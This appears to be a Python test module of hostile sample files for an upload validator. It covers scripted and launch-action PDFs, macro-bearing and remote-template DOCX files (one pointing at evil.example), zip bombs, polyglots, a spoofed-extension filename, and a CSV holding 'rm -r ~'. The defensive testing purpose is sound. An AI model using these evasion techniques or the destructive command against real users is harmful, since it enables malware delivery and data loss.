"""Every file that must not come in, by what is wrong with it, with the sentence that says so."""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
from collections.abc import Callable

import pikepdf

from tests.evidence import hostile_files as made
from tests.evidence.good_files import attached, packed, picture
from tests.evidence.outlook_files import msg, ole

Name, Dictionary, Array = pikepdf.Name, pikepdf.Dictionary, pikepdf.Array
Change = Callable[[pikepdf.Pdf], None]
LAUNCH = b"<</S /Launch /F (calc.exe)>>"
SCRIPT = b"<</S /JavaScript /JS (app.alert\\(1\\))>>"
EXE = b"MZ\x90\0" + b"\0" * 60 + b"This program cannot be run in DOS mode"
RELATION = (
    '<R><Relationship Id="r1" TargetMode="External" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}"/></R>'
)


def zipped(name: str = "a.txt", content: bytes = b"Hello") -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return written.getvalue()


def pdf(change: Change) -> bytes:
    """A PDF with its objects in packed streams, changed so."""
    document = pikepdf.open(io.BytesIO(made.pdf()))
    change(document)
    return packed(document)


def on_root(name: str, value: bytes) -> Callable[[], bytes]:
    def change(document: pikepdf.Pdf) -> None:
        document.Root[name] = document.make_indirect(pikepdf.Object.parse(value))

    return lambda: pdf(change)


def on_page(name: str, value: bytes) -> Callable[[], bytes]:
    def change(document: pikepdf.Pdf) -> None:
        document.pages[0].obj[name] = pikepdf.Object.parse(value)

    return lambda: pdf(change)


def with_file(document: pikepdf.Pdf) -> None:
    document.attachments["a.exe"] = pikepdf.AttachedFileSpec(document, EXE, filename="a.exe")


def pinned(document: pikepdf.Pdf) -> None:
    """A file behind a mark on the page."""
    held = Dictionary(Type=Name.Filespec, F="a.exe", EF=Dictionary(F=document.make_stream(EXE)))
    mark = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), FS=held)
    document.pages[0].obj.Annots = Array([document.make_indirect(mark)])


def behind_a_name(document: pikepdf.Pdf) -> None:
    """The word that makes it a script stands in an object of its own."""
    document.Root.OpenAction = Dictionary(S=document.make_indirect(Name.JavaScript), X="app.alert(1)")


def restricted() -> bytes:
    written = io.BytesIO()
    with pikepdf.open(io.BytesIO(made.pdf())) as document:
        document.save(written, encryption=pikepdf.Encryption(owner="owner", user=""))
    return written.getvalue()


def escaped_script() -> bytes:
    """The names in another spelling, and the table of objects broken so that readers make up their own."""
    return (
        made.scripted_pdf().replace(b"/JavaScript", b"/J#61vaScript").replace(b"startxref\n", b"startxref\n9")
    )


def docx(**parts: str | bytes) -> bytes:
    return made.docx("A letter", **parts)


def said_to_hold_macros() -> bytes:
    return docx(**{made.TYPES: made.DOCX_TYPES.replace("vnd.openxml", "vnd.ms-word.macroEnabled.openxml")})


def lying_docm() -> bytes:
    types = '<Types><Override PartName="/word/document.xml" ContentType="{}"/></Types>'
    return docx(**{made.TYPES: types.format("application/vnd.ms-word.document.macroEnabled.main+xml")})


def overlapping() -> bytes:
    """Its directory lists one packed part forty times, each by another name."""
    part = b"\0" * 3_000_000
    whole = zipfile.ZipFile(io.BytesIO(docx(word__big=part.decode())))
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        for one in whole.infolist():
            archive.writestr(one.filename, whole.read(one))
        big = archive.infolist()[-1]
        archive.filelist.extend([big] * 40)
    return written.getvalue()


def locked_part() -> bytes:
    """The mark that a part is locked, in its head and in the directory."""
    whole = bytearray(docx())
    whole[6] |= 1
    whole[whole.rindex(b"PK\x01\x02") + 8] |= 1
    whole[whole.index(b"PK\x01\x02") + 8] |= 1
    return bytes(whole)


def png_with(name: bytes, content: bytes) -> bytes:
    whole = picture("PNG")
    return whole[:33] + struct.pack(">I", len(content)) + name + content + b"\0\0\0\0" + whole[33:]


def nested(depth: int) -> bytes:
    inner = made.mail()
    for _ in range(depth):
        inner = attached(inside=inner)
    return inner


def _office(name: str, make: Callable[[], bytes], why: str) -> tuple[str, Callable[[], bytes], str]:
    return f"letter.{name}", make, why


ANEW = "Print it to a new PDF"
HOSTILE: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "pdf, locked": ("a.pdf", made.locked_pdf, "is locked with a password"),
    "pdf, restricted": ("a.pdf", restricted, "is locked with a password or restricted"),
    "pdf, script": ("a.pdf", made.scripted_pdf, "holds a script"),
    "pdf, script in a packed stream": ("a.pdf", on_root("/OpenAction", SCRIPT), "holds a script"),
    "pdf, script behind a name": ("a.pdf", lambda: pdf(behind_a_name), "holds a script"),
    "pdf, script on leaving a page": ("a.pdf", on_page("/AA", b"<</C %s>>" % SCRIPT), "holds a script"),
    "pdf, script by name": (
        "a.pdf",
        on_root("/Names", b"<</JavaScript <<>> >>"),
        "holds a script",
    ),
    "pdf, script misspelt": ("a.pdf", escaped_script, ANEW),
    "pdf, starts a program": ("a.pdf", on_root("/OpenAction", LAUNCH), "would start a program"),
    "pdf, sends a form": (
        "a.pdf",
        on_page("/AA", b"<</O <</S /SubmitForm>> >>"),
        "send a form",
    ),
    "pdf, file inside": ("a.pdf", lambda: pdf(with_file), "has another file inside"),
    "pdf, file behind a mark": ("a.pdf", lambda: pdf(pinned), "has another file inside"),
    "pdf, xfa": ("a.pdf", on_root("/AcroForm", b"<</XFA (a)>>"), "is a form that a program fills"),
    "pdf, not at its start": ("a.pdf", lambda: b"GIF89a" + made.pdf(), "what it holds is no PDF"),
    "pdf, zip after it": ("a.pdf", lambda: made.pdf() + zipped(), "two kinds of file"),
    "pdf, zip that ends like one": ("a.pdf", lambda: zip_with_comment(made.pdf()), "two kinds of file"),
    "pdf, web page after it": ("a.pdf", lambda: made.pdf() + b"and more", "after the end of the PDF"),
    "pdf, web page before it": (
        "a.pdf",
        lambda: b"%PDF-1.7\n%<script>1</script>\n" + made.pdf(),
        "two kinds",
    ),
    "pdf, no page": ("a.pdf", lambda: b"%PDF-1.7\n% a letter\n%%EOF", "as it is broken"),
    "pdf, cut off": ("a.pdf", lambda: made.pdf()[:300], "as it is broken"),
    "docx, macros": _office("docx", lambda: docx(**{"word/vbaProject.bin": b"\1\2"}), "holds macros"),
    "docx, macros by another name": _office(
        "docx", lambda: docx(**{"word/VBAPROJECT.BIN": b"1"}), "holds macros"
    ),
    "docx, says that it is docm": _office("docx", lying_docm, "holds macros"),
    "docx, says that a part has macros": _office("docx", said_to_hold_macros, "holds macros"),
    "docx, controls": _office("docx", lambda: docx(**{"word/activeX/activeX1.bin": b"1"}), "holds macros"),
    "xlsx, old macros": _office(
        "xlsx", lambda: xlsx(**{"xl/macrosheets/sheet1.xml": "<m/>"}), "holds macros"
    ),
    "docx, locked": _office(
        "docx", lambda: ole({"EncryptedPackage": b"1", "EncryptionInfo": b"1"}), "is locked"
    ),
    "docx, older document": _office("docx", lambda: ole({"WordDocument": b"1"}), "an older document"),
    "docx, part locked": _office("docx", locked_part, "is locked"),
    "docx, zip inside": _office(
        "docx", lambda: docx(**{"word/embeddings/a.bin": zipped()}), "another file inside"
    ),
    "docx, gzip inside": _office(
        "docx", lambda: docx(**{"word/a.bin": gzip.compress(b"1")}), "another file inside"
    ),
    "docx, package inside": _office(
        "docx", lambda: docx(**{"word/embeddings/o.bin": ole({"a": b"1"})}), "inside"
    ),
    "docx, program inside": _office(
        "docx", lambda: docx(**{"word/media/image1.png": EXE}), "another file inside"
    ),
    "xlsx, docx inside": _office(
        "xlsx", lambda: xlsx(**{"xl/embeddings/a.docx": docx()}), "another file inside"
    ),
    "docx, template elsewhere": _office(
        "docx",
        lambda: docx(
            **{
                "word/_rels/settings.xml.rels": RELATION.format(
                    "attachedTemplate", "https://evil.example/a.dotm"
                )
            }
        ),
        "would fetch a part of itself",
    ),
    "docx, bomb": _office("docx", made.zip_bomb, "unpacks to far more"),
    "docx, parts upon each other": _office("docx", overlapping, "unpacks to far more"),
    "docx, entities": _office(
        "docx", lambda: docx(**{made.TYPES: "<!DOCTYPE T [<!ENTITY a 'b'>]><Types/>"}), "is broken"
    ),
    "docx, no types": _office("docx", lambda: made.archive(word__document="<w/>"), "is broken"),
    "docx, picture before it": _office("docx", lambda: picture("PNG") + docx(), "what it holds is no DOCX"),
    "docx, more before its parts": _office("docx", lambda: b"PK\x03\x04" + EXE + docx(), "two kinds of file"),
    "docx, more after it": _office("docx", lambda: docx() + b"and more", "after the end of the DOCX"),
    "xlsx, is a docx": _office("xlsx", docx, "what it holds is no XLSX"),
    "png, zip after it": ("a.png", lambda: picture("PNG") + zipped(), "two kinds of file"),
    "png, pdf after it": (
        "a.png",
        lambda: picture("PNG", (900, 900)) + made.pdf(),
        "after the end of the PNG",
    ),
    "png, pdf in it": ("a.png", lambda: png_with(b"tEXt", made.pdf()), "two kinds of file"),
    "png, web page after it": ("a.png", lambda: picture("PNG") + b"<script>1</script>", "PNG"),
    "png, bomb": ("a.png", lambda: made.png(50_000, 50_000), "more dots than can be shown"),
    "png, cut off": ("a.png", lambda: picture("PNG")[:-8], "is broken"),
    "jpg, rar after it": ("a.jpg", lambda: picture("JPEG") + b"Rar!\x1a\x07\0", "after the end of the JPG"),
    "jpg, program after it": ("a.jpg", lambda: picture("JPEG") + EXE, "after the end of the JPG"),
    "jpg, film after it": (
        "a.jpg",
        lambda: picture("JPEG") + b"\0\0\0\x18ftypmp42",
        "after the end of the JPG",
    ),
    "jpg, cut off": ("a.jpg", lambda: picture("JPEG")[:-2], "is broken"),
    "csv, web page": (
        "a.csv",
        lambda: b"a,b\n" + b"1,2\n" * 5_000 + b"<script>1</script>\n",
        "parts of a web page",
    ),
    "csv, program": ("a.csv", lambda: b"#!/bin/sh\nrm -r ~\n", "web page or a program"),
    "csv, not text": ("a.csv", lambda: b"a,b\n" + b"1,2\n" * 5_000 + EXE, "what no text does"),
    "csv, pdf": ("a.csv", lambda: b"a,b\n" + made.pdf(), "CSV"),
    "eml, program": ("a.eml", lambda: attached(("setup.exe", EXE)), "came “setup.exe”. Only PDF"),
    "eml, program as a letter": ("a.eml", lambda: attached(("letter.pdf", EXE)), "came “letter.pdf”"),
    "eml, archive": ("a.eml", lambda: attached(("letters.zip", zipped())), "came “letters.zip”. Only PDF"),
    "eml, scripted letter": (
        "a.eml",
        lambda: attached(("letter.pdf", made.scripted_pdf())),
        "came “letter.pdf”. This PDF holds a script",
    ),
    "eml, macros in a mail in it": (
        "a.eml",
        lambda: attached(inside=attached(("a.docx", docx(**{"word/vbaProject.bin": b"1"})))),
        "came “a.docx”. This document holds macros",
    ),
    "eml, web page attached": ("a.eml", lambda: attached(("invoice.html", b"<html>")), "came “invoice.html”"),
    "eml, no name": ("a.eml", lambda: attached(("", EXE)), "came “a file without a name”"),
    "eml, too deep": ("a.eml", lambda: nested(6), "a mail in a mail"),
    "eml, bottomless": ("a.eml", made.nested_mail, "mail"),
    "eml, zip after it": ("a.eml", lambda: made.mail() + zipped(), "EML"),
    "msg, program": ("a.msg", lambda: msg(("setup.exe", EXE)), "came “setup.exe”. Only PDF"),
    "msg, scripted letter": ("a.msg", lambda: msg(("l.pdf", made.scripted_pdf())), "This PDF holds a script"),
    "msg, object inside": (
        "a.msg",
        lambda: msg(more={"__attach_version1.0_#00000009": {"__substg1.0_3701000D": {"WordDocument": b"1"}}}),
        "Another program’s document",
    ),
    "msg, old document": ("a.msg", lambda: ole({"WordDocument": b"1"}), "no mail that Outlook saved"),
    "msg, old document with macros": ("a.msg", lambda: ole({"Macros": {"VBA": b"1"}}), "holds macros"),
    "msg, zip after it": ("a.msg", lambda: msg() + zipped() * 5, "after the end of the MSG"),
    "msg, cut off": ("a.msg", lambda: msg()[:2_000], "is broken"),
    "program": ("a.exe", EXE.__bytes__, "Files that end in .exe can't be handed in"),
    "archive": ("a.zip", zipped, "Files that end in .zip can't be handed in"),
    "turned name": ("invoice\u202efdp.exe", EXE.__bytes__, "Files that end in .exe can't be handed in"),
}


def zip_with_comment(comment: bytes) -> bytes:
    """A PDF to whoever reads from the start, and a ZIP to whoever reads from the end."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        archive.writestr("a.txt", "Hello")
        archive.comment = b"\n%%EOF\n"
    return comment + written.getvalue()


def xlsx(**parts: str | bytes) -> bytes:
    whole = {made.TYPES: made.XLSX_TYPES, "xl__workbook": "<workbook/>"} | parts
    return made.archive(**whole)
